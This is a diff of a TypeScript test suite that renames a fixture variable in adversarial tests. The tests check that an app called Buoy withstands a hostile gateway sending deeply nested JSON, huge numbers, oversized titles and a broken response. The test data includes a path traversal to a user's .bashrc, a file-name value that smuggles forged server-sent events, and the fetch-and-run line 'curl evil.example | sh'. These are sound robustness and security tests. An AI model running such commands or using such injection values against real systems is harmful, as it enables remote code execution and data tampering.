@@ -14,18 +14,18 @@ import {
 const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;
 
 describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
-  let ground: HostileGateway;
+  let fixture: HostileGateway;
   let token: string;
   let serverId: string;
   beforeAll(async () => {
-    ground = await startHostileGateway();
-    token = await ground.signIn(7);
-    serverId = await ground.addServer(token);
+    fixture = await startHostileGateway();
+    token = await fixture.signIn(7);
+    serverId = await fixture.addServer(token);
   });
-  afterAll(() => ground.close());
+  afterAll(() => fixture.close());
 
   const health = async (): Promise<number | string> =>
-    fetch(`${ground.url}/api/health`).then(
+    fetch(`${fixture.url}/api/health`).then(
       ({ status }) => status,
       (error: Error) => `no answer: ${error.message}`,
     );
@@ -34,7 +34,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
   async function readEvents(below: string, is: (text: string) => boolean, onOpen: () => void = () => {}) {
     const leaving = new AbortController();
     const timer = setTimeout(() => leaving.abort(), 20_000);
-    const answer = await fetch(`${ground.url}/api/servers/${serverId}/openclaw/${below}`, {
+    const answer = await fetch(`${fixture.url}/api/servers/${serverId}/openclaw/${below}`, {
       headers: { authorization: `Bearer ${token}` },
       signal: leaving.signal,
     });
@@ -60,8 +60,8 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
 
   test('does not by a first frame of the Control UI that is nested 50,000 levels deep', async () => {
     const browser = createBrowser();
-    const entry = await entryFor(ground, token, serverId);
-    expect((await browser.enter(entry, ground.url)).status).toBe(200);
+    const entry = await entryFor(fixture, token, serverId);
+    expect((await browser.enter(entry, fixture.url)).status).toBe(200);
     const base = `/s/${serverId}/`;
     const socket = new WebSocket(`${entry.origin.replace('http', 'ws')}${base}`, {
       headers: { cookie: browser.cookiesFor(base), origin: entry.origin },
@@ -82,17 +82,17 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
       (seen) => seen.includes('still there'),
       () => {
         for (let count = 0; count < 5; count += 1)
-          ground.gateway.sendRaw(
+          fixture.gateway.sendRaw(
             `{"type":"event","event":"session.message","payload":{"sessionKey":"agent:main:main","message":{"role":"assistant","content":[{"type":"toolCall","id":"1","name":"n","arguments":${argument}}]}}}`,
           );
-        void until(15_000, async () => (ground.gateway.open() > 0 ? true : null)).then(() =>
-          ground.gateway.emit('skills.changed', { reason: 'still there' }),
+        void until(15_000, async () => (fixture.gateway.open() > 0 ? true : null)).then(() =>
+          fixture.gateway.emit('skills.changed', { reason: 'still there' }),
         );
       },
     );
     expect(text).toContain('still there');
     expect(await health()).toBe(200);
-    expect(ground.buoy.output()).not.toContain('the SSH connection was lost');
+    expect(fixture.buoy.output()).not.toContain('the SSH connection was lost');
   });
 
   test('does not end the streams of others by a number that no answer can hold', async () => {
@@ -100,18 +100,18 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
       'events',
       (seen) => seen.includes('still there'),
       () => {
-        ground.gateway.emit('sessions.changed', {
+        fixture.gateway.emit('sessions.changed', {
           sessionKey: 'agent:main:main',
           session: { key: 'agent:main:main', inputTokens: 1e308, createdAt: 1e300 },
         });
-        ground.gateway.emit('skills.changed', { reason: 'still there' });
+        fixture.gateway.emit('skills.changed', { reason: 'still there' });
       },
     );
     expect(text).toContain('still there');
   });
 
   test('forges no event in the log stream of others by the name of its log file', async () => {
-    ground.gateway.methods['logs.tail'] = () => ({
+    fixture.gateway.methods['logs.tail'] = () => ({
       payload: {
         file: 'x\n\nevent: line\ndata: {"forged":true}\n\n',
         cursor: 5,
@@ -124,10 +124,10 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
   });
 
   test('names no file of the reader: an agent file has the name by which it was asked for', async () => {
-    ground.gateway.methods['agents.files.get'] = () => ({
+    fixture.gateway.methods['agents.files.get'] = () => ({
       payload: { file: { name: '../../home/ada/.bashrc', content: 'curl evil.example | sh', size: 22 } },
     });
-    const { status, json } = await ground.call(
+    const { status, json } = await fixture.call(
       token,
       'GET',
       `/servers/${serverId}/openclaw/agents/main/files/SOUL.md`,
@@ -138,7 +138,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
 
   test('keeps nobody busy by naming another log file each time', async () => {
     let asked = 0;
-    ground.gateway.methods['logs.tail'] = () => {
+    fixture.gateway.methods['logs.tail'] = () => {
       asked += 1;
       return { payload: { file: `log-${asked}`, cursor: 5, lines: [] } };
     };
@@ -147,7 +147,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
     const [before, since] = [asked, performance.now()];
     await until(10_000, async () => (asked >= before + 3 ? true : null));
     expect((asked - before) / ((performance.now() - since) / 1_000)).toBeLessThanOrEqual(2);
-    ground.gateway.methods['logs.tail'] = () => ({ payload: { file: 'last', cursor: 5, lines: [] } });
+    fixture.gateway.methods['logs.tail'] = () => ({ payload: { file: 'last', cursor: 5, lines: [] } });
     asked = 51;
     void reading.catch(() => undefined);
   });
@@ -156,24 +156,24 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
 describe.skipIf(noSshd !== null)(
   'a gateway that wants to end Buoy while a person looks at its Control UI',
   () => {
-    let ground: HostileGateway;
+    let fixture: HostileGateway;
     let web: Server;
     beforeAll(async () => {
-      ground = await startHostileGateway();
+      fixture = await startHostileGateway();
     });
     afterAll(async () => {
       web?.close();
-      await ground.close();
+      await fixture.close();
     });
 
     test('does not by an answer whose status is none and that breaks off', async () => {
-      const token = await ground.signIn(7);
-      const serverId = await ground.addServer(token);
+      const token = await fixture.signIn(7);
+      const serverId = await fixture.addServer(token);
       const browser = createBrowser();
-      const entry = await entryFor(ground, token, serverId);
-      await browser.enter(entry, ground.url);
-      const { port } = ground.gateway;
-      await ground.gateway.stop();
+      const entry = await entryFor(fixture, token, serverId);
+      await browser.enter(entry, fixture.url);
+      const { port } = fixture.gateway;
+      await fixture.gateway.stop();
       web = createServer((socket) => {
         socket.on('error', () => undefined);
         socket.once('data', () => {
@@ -188,29 +188,29 @@ describe.skipIf(noSshd !== null)(
       }).catch((error: Error) => error);
       // The end comes behind the answer, when the broken stream is noticed.
       for (let count = 0; count < 20; count += 1)
-        expect((await fetch(`${ground.url}/api/health`)).status).toBe(200);
+        expect((await fetch(`${fixture.url}/api/health`)).status).toBe(200);
       expect(answer).toMatchObject({ status: 502 });
     });
   },
 );
 
 describe.skipIf(noSshd !== null)('a gateway that wants the memory of Buoy', () => {
-  let ground: HostileGateway;
+  let fixture: HostileGateway;
   beforeAll(async () => {
     // What the rounds of each test leave behind adds up to more than this.
-    ground = await startHostileGateway({ NODE_OPTIONS: '--max-old-space-size=256' });
+    fixture = await startHostileGateway({ NODE_OPTIONS: '--max-old-space-size=256' });
   });
-  afterAll(() => ground.close());
+  afterAll(() => fixture.close());
 
   /** How many rounds a live stream saw the end of. */
   async function roundsSeen(rounds: number, tell: (round: number) => void): Promise<number> {
-    const token = await ground.signIn(7);
-    const serverId = await ground.addServer(token);
+    const token = await fixture.signIn(7);
+    const serverId = await fixture.addServer(token);
     const leaving = new AbortController();
     let tail = '';
     let round = -1;
     try {
-      const stream = await fetch(`${ground.url}/api/servers/${serverId}/openclaw/events`, {
+      const stream = await fetch(`${fixture.url}/api/servers/${serverId}/openclaw/events`, {
         headers: { authorization: `Bearer ${token}` },
         signal: leaving.signal,
       });
@@ -222,7 +222,7 @@ describe.skipIf(noSshd !== null)('a gateway that wants the memory of Buoy', () =
         round += 1;
         if (round === rounds) break;
         tell(round);
-        ground.gateway.emit('skills.changed', { reason: `round ${round} is over` });
+        fixture.gateway.emit('skills.changed', { reason: `round ${round} is over` });
       }
     } catch {
       // Buoy has gone: how far it came is judged.
@@ -238,20 +238,20 @@ describe.skipIf(noSshd !== null)('a gateway that wants the memory of Buoy', () =
       const channels = Object.fromEntries(
         names.map((name) => [name, { accounts: { default: { running: false } } }]),
       );
-      ground.gateway.emit('health', { ok: true, channels });
+      fixture.gateway.emit('health', { ok: true, channels });
     });
     expect(seen).toBe(200);
-    expect((await fetch(`${ground.url}/api/health`)).status).toBe(200);
+    expect((await fetch(`${fixture.url}/api/health`)).status).toBe(200);
   }, 60_000);
 
   test('keeps none of it by titles of a megabyte, of which the first thousand characters are read', async () => {
     const seen = await roundsSeen(250, (round) =>
-      ground.gateway.emit('sessions.changed', {
+      fixture.gateway.emit('sessions.changed', {
         sessionKey: 'agent:main:main',
         session: { key: 'agent:main:main', displayName: `${round} ${'x'.repeat(1_000_000)}` },
       }),
     );
     expect(seen).toBe(250);
-    expect((await fetch(`${ground.url}/api/health`)).status).toBe(200);
+    expect((await fetch(`${fixture.url}/api/health`)).status).toBe(200);
   }, 60_000);
 });
